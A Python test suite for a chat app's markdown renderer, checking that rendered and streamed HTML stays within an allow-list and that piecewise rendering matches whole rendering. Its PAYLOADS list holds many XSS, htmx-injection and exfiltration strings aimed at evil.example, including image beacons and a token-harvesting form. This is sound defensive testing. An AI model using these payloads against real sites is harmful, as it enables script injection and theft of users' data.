"""Nothing that runs, loads or leaks comes out, and pieces give what the whole gives."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it.rules_core import StateCore

from app.wire.growing import Change
from app.wire.markdown import FINISHED, MAX_CHARACTERS, STRUCTURE, Surroundings, render
from app.wire.markdown_stream import MarkdownStream, split_blocks
from app.wire.unfinished import UNFINISHED
from tests.wire.fragment import Places

_BARE = "p br hr h1 h2 h3 h4 h5 h6 em strong s del thead tbody tr sup sub"
_MATH = (
    "math mrow mi mo mn mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle"
)
_MATH_ATTRIBUTES = {"display", "columnalign", "stretchy", "lspace", "rspace", "form", "width", "accent"}
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in _BARE.split(" ")},
    "a": {"href", "rel", "target", "id", "aria-label"},
    "div": {"class"},
    "details": {"class"},
    "summary": set(),
    "img": {"src", "alt"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start", "class", "dir"},
    "li": {"id"},
    "th": {"align"},
    "td": {"align"},
    "input": {"type", "disabled", "checked", "aria-label"},
    "pre": {"tabindex"},
    **dict.fromkeys(_MATH.split(), _MATH_ATTRIBUTES),
    "ul": {"dir"},
    "blockquote": {"dir"},
    "table": {"dir"},
}
OWN = r"m-a1-(1-(note|mark)|source)-\d+"
CLASSES = r"language-[\w+#.-]{1,30}|[a-z]{1,3}\d?|code|code-bar|code growing|fold|rows|footnotes"


class _Checker(HTMLParser):
    """Reads HTML as a browser does and complains about everything the page's policy does not know."""

    def __init__(self) -> None:
        super().__init__()
        self.complaints: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.complaints.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in ALLOWED[tag]:
                self.complaints.append(f"<{tag} {name}>")
            if name == "href" and not re.match(rf"(https?://|mailto:|#{OWN}$)", value or "", re.IGNORECASE):
                self.complaints.append(f"href={value}")
            if name == "src" and not re.match(r"/files/[\w-]+$|data:image/(png|jpeg|gif|webp);base64,", value or ""):
                self.complaints.append(f"src={value}")
            if name == "class" and not re.fullmatch(CLASSES, value or ""):
                self.complaints.append(f"class={value}")
            if name == "id" and not re.fullmatch(OWN, value or ""):
                self.complaints.append(f"id={value}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow ugc":
            self.complaints.append("a link without rel")
        if tag == "input" and (dict(attrs).get("type"), "disabled" in dict(attrs)) != ("checkbox", True):
            self.complaints.append("an input that takes input")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.complaints.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.complaints.append(f"instruction {data}")

    def handle_data(self, data: str) -> None:
        self.text += data


def complaints(html: str) -> list[str]:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    # htmx 4 rewrites `<hx-` wherever it stands in the text of a fragment, attributes included
    return checker.complaints + (["<hx-"] if "<hx-" in html.lower() else [])


def text_of(html: str) -> str:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.text


PAYLOADS = [
    # raw HTML, handlers, elements that run or load
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example)>x</div>",
    "<form action=//evil.example><input name=token><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html>",
    "</p></div></body><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    # htmx
    "<div hx-get=/api/ai/conversations hx-trigger=load>x</div>",
    "<div data-hx-get=/x hx-on:click=alert(1)>x</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML>owned</hx-partial>",
    "[x](https://a.example '<hx-a onmouseover=alert(1) x>')",
    "![<hx-partial hx-target=body>](/files/a)",
    "`<hx-partial hx-target=body>`",
    "<div hx-sse:connect=/c/x/stream>x</div>",
    "<span hx-ignore=false hx-boost=true>x</span>",
    # schemes
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,AAAA)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](//evil.example/x)",
    "[x](/api/ai/chat/a/stop)",
    "[x](../../logout)",
    "[x](?preset=evil)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    'www.a.example"><img src=x onerror=alert(1)>',
    '[x](https://a.example/"onclick="alert(1))',
    "[x](<https://a.example/ onclick=alert(1)>)",
    # what would be loaded
    "![x](https://evil.example/?d=secret)",
    "![x](//evil.example/?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/?d=secret",
    "![x](http://127.0.0.1:8000/api)",
    "![x](/api/ai/conversations)",
    "![x](/files/../api/ai/conversations)",
    "![x](/files/a?x=//evil.example)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](data:text/html;base64,AAAA)",
    '![x](data:image/png;base64,AAAA" onerror="alert(1))',
    '![x" onerror="alert(1)](/files/a)',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![![x](https://evil.example/1)](https://evil.example/2)",
    # attributes that markdown itself may write
    '```x" onmouseover="alert(1)\ncode\n```',
    '```"><script>alert(1)</script>\ncode\n```',
    "```a class=evil hx-get=/x\ncode\n```",
    "~~~ language-evil{onclick=alert(1)}\ncode\n~~~",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "- [x] <img src=x onerror=alert(1)>",
    "- [ ](javascript:alert(1))",
    "99999999999999999999. x",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
    "<a id=composer name=composer>clobbered</a>",
    "[a@b.example](mailto:a@b.example?subject=<script>)",
    # formulas
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\href{javascript:alert(1)}{x}$$",
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\[\class{evil}{x} \style{background:url(//evil.example)}{x} \cssId{composer}{x}\]",
    r"$\html{<script>alert(1)</script>}$ $\unicode{<script>}$",
    r"$\color{red;background:url(//evil.example)}{x}$ $\textcolor{url(//evil.example)}{x}$",
    r"$\includegraphics{//evil.example/x.png}$ $\url{javascript:alert(1)}$",
    r"$x</math><script>alert(1)</script>$",
    r"$\frac{</mtext><img src=x onerror=alert(1)>}{a$",
    r"$$<hx-partial hx-target=body>$$",
    r"$\def\x{\x\x}\x$ $\tag{<img src=x onerror=alert(1)>} x$ $\label{composer} x$",
    # footnotes
    "a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "a[^composer]\n\n[^composer]: x",
    "a[^<script>]\n\n[^<script>]: x",
    "[x](#m-a1-1-note-1) [y](#composer) [z][1]",
    "\u202e<script>\u202calert(1)",
    "\x00<script>alert(1)</script>\x00",
    "\ud800<script>alert(1)</script>\udfff",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_leaves_nothing_that_runs_loads_or_leaks(payload: str) -> None:
    assert complaints(render(payload)) == []
    assert complaints(render(payload, Surroundings("m-a1", 1, (1,)))) == []
    assert complaints(render(f"> - text {payload} text\n")) == []
    assert complaints(stream([payload])) == []


_MARKS = [*"<>\"'`-#|[]()!&*_~\\:", "```", "1. ", "> ", "\n", "\n\n", "    "]
_PIECES = st.sampled_from([payload[:40] for payload in PAYLOADS] + _MARKS)


@settings(deadline=None)
@given(st.lists(_PIECES | st.text(max_size=12), max_size=40).map("".join))
def test_no_text_at_all_leaves_anything_that_runs_loads_or_leaks(text: str) -> None:
    assert complaints(render(text)) == []


@settings(deadline=None)
@given(st.lists(_PIECES | st.text(max_size=12), max_size=30).map("".join), st.randoms(use_true_random=False))
def test_no_piece_of_a_stream_leaves_anything_either(text: str, choices: random.Random) -> None:
    markdown = MarkdownStream()
    for piece in cut(text, choices):
        markdown.add(piece)
        for change in markdown.flush():
            assert complaints(change.html) == []
    for change in markdown.finish():
        assert complaints(change.html) == []


def test_what_models_write_is_rendered() -> None:
    html = render(
        "# Title\n\n**bold** *it* ~~no~~ `x < y` https://example.com\n\n- [x] done\n- [ ] open\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n3. three\n\n> quote\n"
    )
    for expected in (
        "<h1>Title</h1>",
        "<strong>bold</strong> <em>it</em> <s>no</s> <code>x &lt; y</code>",
        '<a href="https://example.com"',
        'type="checkbox"',
        "> done",
        '<td align="right">2</td>',
        '<ol start="3" dir="auto">',
        '<blockquote dir="auto">',
    ):
        assert expected in html
    assert html.count("checked") == 1


def test_code_of_a_known_language_is_coloured() -> None:
    html = render("```python\ndef f(): pass\n```")
    assert '<code class="language-python"><span class="k">def</span>' in html
    assert '<div class="code-bar">python</div>' in html


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "no such", "<b>"])
def test_code_of_an_unknown_language_is_shown_as_it_is(language: str) -> None:
    html = render(f"```{language}\nif a < b:\n```")
    assert text_of(html).endswith("if a < b:\n\n")
    assert "<span" not in html


def test_leading_blank_lines_and_tabs_of_code_are_kept() -> None:
    assert text_of(render("```python\n\n\tx = 1\n\n```")) == "python\n\tx = 1\n\n\n"


def test_a_foreign_image_is_a_link_that_names_its_host() -> None:
    html = render("![a cat](https://images.example/cat.png?d=1)")
    assert "<img" not in html
    assert ">Image from images.example: a cat</a>" in html


def test_our_own_and_inline_images_are_shown() -> None:
    assert '<img src="/files/abc_1-2" alt="x">' in render("![x](/files/abc_1-2)")
    assert '<img src="data:image/png;base64,AAAA" alt="">' in render("![](data:image/png;base64,AAAA)")


def test_a_link_that_shows_another_address_is_followed_by_its_host() -> None:
    assert ">paypal.com</a> (evil.example)" in render("[paypal.com](https://evil.example/login)")
    assert ">https://paypal.com/x</a> (evil.example)" in render("[https://paypal.com/x](https://evil.example)")
    assert "(xn--" in render("[bank](https://\u0430\u0440\u0440\u04cf\u0435.com)")
    assert ">the docs</a></p>" in render("[the docs](https://docs.example)")
    assert ">docs.example/a</a></p>" in render("[docs.example/a](https://www.docs.example/a)")


def test_the_text_of_a_link_cannot_be_turned_around() -> None:
    html = render("[\u202egpj.exe\u2066x](https://a.example)")
    assert ">gpj.exex</a>" in html


def test_text_that_is_nested_too_deeply_is_shown_as_text() -> None:
    for text in (">" * 300 + " deep", "- " * 200 + "deep", "".join("  " * level + "- x\n" for level in range(200))):
        html = render(text)
        assert html.startswith("<pre>")
        assert "deep" in html or "x" in html


def test_text_beyond_the_limit_is_shown_as_text() -> None:
    text = "**a** b\n" * (MAX_CHARACTERS // 8) + "**beyond**\n" * 100
    html = render(text)
    assert "<strong>a</strong>" in html
    assert html.endswith("**beyond**\n</pre>\n")
    assert "<strong>beyond" not in html


# Streaming.


def cut(text: str, choices: random.Random) -> list[str]:
    pieces = []
    while text:
        length = choices.choice([1, 1, 2, 3, 8, 30])
        pieces.append(text[:length])
        text = text[length:]
    return pieces


def stream(pieces: list[str]) -> str:
    """The HTML that stands at the end, with a flush after every piece."""
    markdown, places = MarkdownStream(), Places()
    for piece in pieces:
        markdown.add(piece)
        places.apply(markdown.flush())
    places.apply(markdown.finish())
    assert places["tail"] == ""
    return places["done"]


DOCUMENTS = {
    "paragraphs": "One\ntwo\n\nthree\n\n\nfour",
    "setext": "Title\n=====\n\nnot yet\n---\nafter",
    "lists": "- a\n- b\n\n  more b\n\n- c\n\n\npara\n\n1. x\n   1. y\n2. z\n* other",
    "loose list later": "- a\n- b\n- c\n\n- d\n",
    "fence": "text\n```python\ndef f():\n\n    return 1\n```\nafter\n~~~\nx\n~~~",
    "unclosed fence": "a\n\n```js\nlet x = 1\n\n# not a heading",
    "indented code": "a\n\n    code\n\n    more\n\nb",
    "table": "before\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\nafter\n",
    "table after text": "text\na | b\n--|--\n1 | 2\n\nx",
    "quote": "> a\nlazy\n> > b\n\nc",
    "rules": "a\n\n***\n\n---\n- x\n---\ny",
    "definition before": "[a]: https://a.example\n\nsee [a]\n\nand [a] again",
    "definition after": "see [a]\n\nand more\n\n[a]: https://a.example 'title'\n",
    "definition with a long title": "x\n\n[a]: /b\n'title\nmore'\n\nhttps://c.example [a]",
    "definition in a list": "see [a]\n\n- x\n\n  [a]: https://a.example\n\nend [a]",
    "line ends": "a\r\nb\r\n\r\n```\r\nx\r\n```\r\rc",
    "task list": "- [ ] a\n- [x] b\n\nc",
    "alert": "> [!NOTE]\n> text\n\nafter",
    "html stays text": "<div>\n\n*x*\n\n</div>\n\n<!-- a\n\nb -->",
    "trailing spaces": "a  \nb\\\nc   \n\nd",
    "surrogate halves": "a \ud83d\ude00 b\n\nc \ud83d d",
    "formulas": "a $x$ b\n\n$$\n- y\n+ z\n$$\nafter \\(a\\)\n\n\\[\n# b\n\\]\n",
    "formula that never ends": "text\n$$\na\n- b\n\n# c\n\n\\[ x\n- y\n",
    "footnotes": "a[^1] b[^x] c[^y]\n\n[^1]: one\n[^x]: two\n\n    more\n\nend[^1]\n",
    "footnotes in a list": "- a[^1]\n- b\n\n- c[^2]\n\n[^1]: one\n",
    "list with everything": "1. a\n   ```py\n   x\n   ```\n2. b\n   - c\n   - d\n"
    "3. | a |\n   |---|\n   | b |\n4. > q\nlazy\n",
    "tables": "| a | b |\n|---|:-:|\n| 1 | 2 |\n| `x|y` | 3 |\ntext\n# h\n| a |\n|---|\n\nend\n",
    "fences": "   ```a\n   x\n  y\n z\n    w\n   ```\n~~~~\n~~~\n~~~~ \n```\n\n",
    "long list": "- a\n- b\n* c\n* d\n\n\n* e\n\n[x]: https://x.example\n- f\n- g [x]\n",
    "separators": "a\x0b\x0cb\u2028c\x85d\n- a\x0c\n- b\u2028\n- c\n",
}


@pytest.mark.parametrize("document", DOCUMENTS.values(), ids=list(DOCUMENTS))
def test_one_character_at_a_time_gives_what_the_whole_gives(document: str) -> None:
    assert stream(list(document)) == render(document.replace("\r\n", "\n").replace("\r", "\n"))


_LINES = [
    "# h", "- a", "$$", "$x$", "\\[", "\\]", "[^1]: n", "a[^1]", "| b |", "2. y", "~~~", "   more", "  - b", "1. x",
    "> q", "```", "    c", "| a |\n|---|", "", "---", "===", "text", "[a]: /x",
]  # fmt: skip
_BLOCKS = st.sampled_from([*DOCUMENTS.values(), *(f"{line}\n" for line in _LINES), "[a] *b*\n", "\t- t\n"])


@settings(deadline=None)
@given(st.lists(_BLOCKS, min_size=1, max_size=8).map("".join), st.randoms(use_true_random=False))
def test_any_cuts_give_what_the_whole_gives(document: str, choices: random.Random) -> None:
    whole = render(document.replace("\r\n", "\n").replace("\r", "\n"))
    assert stream(cut(document, choices)) == whole


@pytest.mark.parametrize("size", [13, 700])
@pytest.mark.parametrize(
    "document",
    [
        "para\n\n" * (MAX_CHARACTERS // 6 + 500),
        "- an **item**\n" * (MAX_CHARACTERS // 14 + 500),
        "| a | b |\n|---|---|\n" + "| 1 | **two** |\n" * (MAX_CHARACTERS // 16 + 500),
        "a 'word' " * (MAX_CHARACTERS // 9 + 500),
        "para\n\n" * (MAX_CHARACTERS // 6 - 10) + "```\ncode\n```\n" + "para\n\n" * 100,
    ],
    ids=["paragraphs", "list", "table", "one paragraph", "around code"],
)
def test_a_text_that_outgrows_the_limit_is_shown_as_the_whole_without_being_made_anew(document: str, size: int) -> None:
    markdown, places = MarkdownStream(), Places()
    begin = MAX_CHARACTERS - 2_000
    for start in (0, *range(begin, len(document), size)):
        markdown.add(document[start : start + size] if start else document[:begin])
        places.apply(markdown.flush())
    end = markdown.finish()
    assert "innerMorph" not in [change.swap for change in end]
    places.apply(end)
    assert (places["done"], places["tail"]) == (render(document), "")


def test_a_finished_block_is_never_sent_again() -> None:
    markdown = MarkdownStream()
    markdown.add("first\n\nsecond\n\nthi")
    assert markdown.flush() == [
        Change("done", "beforeend", "<p>first</p>\n"),
        Change("tail", "innerHTML", "<p>second</p>\n<p>thi</p>\n"),
    ]
    markdown.add("rd\n")
    assert markdown.flush() == [
        Change("done", "beforeend", "<p>second</p>\n"),
        Change("tail", "innerHTML", "<p>third</p>\n"),
    ]
    assert markdown.finish() == [Change("done", "beforeend", "<p>third</p>\n"), Change("tail", "innerHTML", "")]


def test_only_complete_lines_finish_a_block() -> None:
    assert split_blocks("a\n\nb", done=False) == ("", "a\n\nb")
    assert split_blocks("a\n\nb\n", done=False) == ("a\n\n", "b\n")
    assert split_blocks("a\n\nb", done=True) == ("a\n\nb", "")
    assert split_blocks("", done=False) == ("", "")


# What grows for long.

LONG = {
    "code": ("```python\n", "    value = compute(12) # a line\n", 5_000),
    "table": ("| a | b |\n|---|---|\n", "| 1 | **two** |\n", 2_000),
    "list": ("", "- an item\n", 1_000),
    "loose list": ("", "1. an item\n\n", 1_000),
    "paragraph": ("", "words of a paragraph, ", 1_000),
}


@pytest.mark.parametrize("kind", list(LONG))
def test_what_a_flush_sends_does_not_depend_on_what_there_is(kind: str) -> None:
    start, line, count = LONG[kind]
    markdown, places = MarkdownStream(), Places()
    markdown.add(start)
    sent = []
    for _ in range(count):
        markdown.add(line)
        changes = markdown.flush()
        places.apply(changes)
        sent.append(sum(len(change.html) for change in changes))
    assert max(sent) < 1_000
    assert max(sent[count // 2 :]) <= max(sent[: count // 2])
    places.apply(markdown.finish())
    assert places["done"] == render(start + line * count)


@pytest.mark.parametrize("kind", list(LONG))
def test_what_a_flush_parses_does_not_depend_on_what_there_is(kind: str, parsed: list[int]) -> None:
    start, line, count = LONG[kind]
    markdown = MarkdownStream()
    markdown.add(start)
    for _ in range(count):
        markdown.add(line)
        markdown.flush()
    assert max(parsed, default=0) < 500
    assert sum(parsed) < 12 * (len(start) + len(line) * count)


@pytest.fixture
def parsed() -> Iterator[list[int]]:
    """How many characters each of markdown-it's runs was given."""
    sizes: list[int] = []

    def count(state: StateCore) -> None:
        sizes.append(len(state.src))

    parsers = (FINISHED, UNFINISHED, STRUCTURE)
    for parser in parsers:
        parser.core.ruler.before("normalize", "count", count)
    yield sizes
    for parser in parsers:
        parser.core.ruler.disable("count")


def test_a_list_in_one_read_is_as_good_as_line_by_line() -> None:
    text = "- a\n- b\n\n- c\n" * 3 + "\nend"
    markdown, places = MarkdownStream(), Places()
    markdown.add(text)
    places.apply(markdown.flush())
    places.apply(markdown.finish())
    assert places["done"] == render(text)


def test_code_is_shown_as_it_comes_and_coloured_when_it_is_whole() -> None:
    markdown, places = MarkdownStream(), Places()
    markdown.add("```python\ndef f():\n    ret")
    places.apply(markdown.flush())
    assert text_of(places.shown) == "pythondef f():\n    ret"
    assert 'class="k"' not in places.shown
    markdown.add("urn 1\n``")
    places.apply(markdown.flush())
    assert text_of(places.shown) == "pythondef f():\n    return 1\n"
    markdown.add("`\n")
    places.apply(markdown.flush())
    assert '<span class="k">return</span>' in places["done"]


def test_long_code_is_folded() -> None:
    assert "<details" not in render("```\n" + "x\n" * 24 + "```")
    html = render("```\n" + "x\n" * 1_200 + "```")
    assert '<details class="fold"><summary><span>Show all 1,200 lines</span>' in html


# What is half written.

HALVES = {
    "strong": ("some **bold wor", "some bold wor"),
    "strong begins": ("some **", "some"),
    "strong ends": ("some **bold*", "some bold"),
    "emphasis": ("an *empha", "an empha"),
    "code": ("call `print(", "call print("),
    "strike": ("~~gone", "gone"),
    "link": ("see [the docs](https://exam", "see the docs"),
    "link begins": ("see [the do", "see the do"),
    "image": ("look ![a cat](https://exa", "look"),
    "heading": ("text\n\n##", "text"),
    "item": ("- a\n-", "a"),
    "fence": ("text\n\n```py", "text"),
    "fence begins": ("text\n\n``", "text"),
    "rule": ("text\n\n---", "text"),
    "table": ("| a | b |", "a b"),
    "table rule": ("| a | b |\n|--", "a b"),
    "formula": ("so $\\frac{a}", "so"),
    "formula in brackets": ("so \\(a +", "so"),
    "formula block": ("so\n\n$$\na + b", "so"),
    "price": ("it costs $5 and", "it costs $5 and"),
    "entity": ("a &am", "a"),
    "footnote": ("a fact[^1", "a fact"),
    "mark": ("a fact[1", "a fact"),
    "product": ("2*3 is", "2*3 is"),
}


@pytest.mark.parametrize(("text", "shown"), HALVES.values(), ids=list(HALVES))
def test_what_is_half_written_shows_no_markers(text: str, shown: str) -> None:
    markdown, places = MarkdownStream(), Places()
    markdown.add(text)
    places.apply(markdown.flush())
    assert " ".join(text_of(places.shown).split()) == shown


def test_letters_are_appended_and_nothing_is_made_anew() -> None:
    markdown = MarkdownStream()
    markdown.add("A **bold be")
    markdown.flush()
    for word in ("ginning", " of", " many", " words,"):
        markdown.add(word)
        markdown.flush()
    markdown.add(" and more")
    assert markdown.flush() == [Change("tail>:last-child>:last-child", "beforeend", " and more")]


# Formulas and footnotes.


@pytest.mark.parametrize("formula", ["$x^2$", r"\(x^2\)", "$$x^2$$", "\\[\nx^2\n\\]", "text\n$$\nx^2\n$$\nmore"])
def test_formulas_are_shown_as_formulas(formula: str) -> None:
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in render(formula)
    assert ('display="block"' in render(formula)) == ("$$" in formula or "[" in formula)


@pytest.mark.parametrize(
    "text",
    [
        "from $5 and $10 to $20",
        "costs $5, or 10$ more",
        "US$5 and A$10",
        "$5-$10",
        "$100k/$200k",
        "set $HOME/$USER and $PATH",
        "$ 5 $",
        r"\$x\$",
        "`$x$`",
        "$$",
        "one $ sign",
    ],
)
def test_prices_and_variables_are_no_formulas(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize("source", ["x" * 3_000, r"\sqrt{" * 300 + "x" + "}" * 300, r"\nosuchcommand{x}", r"\frac{a"])
def test_what_is_no_formula_is_shown_as_it_was_written(source: str) -> None:
    html = render(f"${source}$")
    assert "<math" not in html
    assert source in text_of(html)


def test_footnotes_lead_there_and_back_and_stay_in_their_message() -> None:
    html = render("A[^b] and[^1] again[^b].\n\n[^1]: One.\n[^b]: *Two*.", Surroundings("m-x", 3))
    assert '<a href="#m-x-3-note-1" id="m-x-3-mark-1"' in html
    assert html.count('id="m-x-3-mark-1"') == 1
    assert '<ol class="footnotes" start="2"><li id="m-x-3-note-2"><p>One.</p>' in html
    assert 'href="#m-x-3-mark-2" aria-label="Back to the text"' in html


def test_what_no_note_is_written_for_is_no_footnote() -> None:
    assert "<sup" not in render("a class [^a-z] of letters [^1]")


def test_marks_lead_to_the_sources_that_they_mean() -> None:
    html = render("Yes[1][3], `[1]` and [4] or [1](https://a.example).", Surroundings("m-x", 1, (1, 2, 1)))
    assert html.count('href="#m-x-source-1"') == 2
    assert "<code>[1]</code> and [4]" in html
    assert 'href="https://a.example"' in html


def test_marks_become_links_when_their_sources_come_late() -> None:
    text = "Yes[1].\n\nNo[2]."
    markdown, places = MarkdownStream(Surroundings("m-x", 1)), Places()
    markdown.add(text)
    places.apply(markdown.flush())
    markdown.know((1, 2))
    places.apply(markdown.finish())
    assert places["done"] == render(text, Surroundings("m-x", 1, (1, 2)))
    places.apply(markdown.cite((1, 1)))
    assert places["done"] == render(text, Surroundings("m-x", 1, (1, 1)))
